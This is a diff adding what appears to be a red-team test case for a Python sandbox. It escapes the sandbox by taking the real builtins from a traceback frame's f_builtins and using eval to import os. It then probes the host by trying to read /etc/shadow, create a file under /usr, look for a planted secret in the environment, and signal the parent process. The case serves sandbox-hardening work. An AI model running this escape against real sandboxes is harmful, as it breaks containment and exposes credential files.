@@ -1,0 +1,38 @@
+# attack: a frame's f_builtins are the real builtins of the module that runs it: eval is back
+# escaped-if: stdout has "BYPASSED:" (the real eval ran) or "ESCAPED:" (the host reached with it)
+# policy: normal
+
+
+def contain(real):
+    """What the real os can do here; prints ESCAPED for anything that reaches the host."""
+    reached = []
+    try:
+        real["close"](real["open"]("/etc/shadow", real["O_RDONLY"]))
+        reached.append("read /etc/shadow")
+    except OSError:
+        pass
+    try:
+        real["close"](real["open"]("/usr/nexus-redteam-escape", real["O_WRONLY"] | real["O_CREAT"], 0o600))
+        reached.append("created /usr/nexus-redteam-escape")
+    except OSError:
+        pass
+    if any("nexus-redteam-secret" in str(value) for value in real["environ"].values()):
+        reached.append("saw the host environment")
+    parent = real["getppid"]()
+    if parent > 1:
+        try:
+            real["kill"](parent, 0)
+            reached.append(f"may signal its parent {parent}")
+        except OSError:
+            pass
+    print("ESCAPED: " + ", ".join(reached) if reached else "sandbox held: no host file, secret or parent")
+
+
+try:
+    raise ValueError("x")
+except ValueError as exc:
+    outer = exc.__traceback__.tb_frame.f_back
+real_builtins = outer.f_builtins
+real_os = real_builtins["eval"]("__import__('os')", {"__builtins__": real_builtins})
+print("BYPASSED: f_builtins gave the real eval, which imported", real_os.__name__)
+contain(real_os.__dict__)
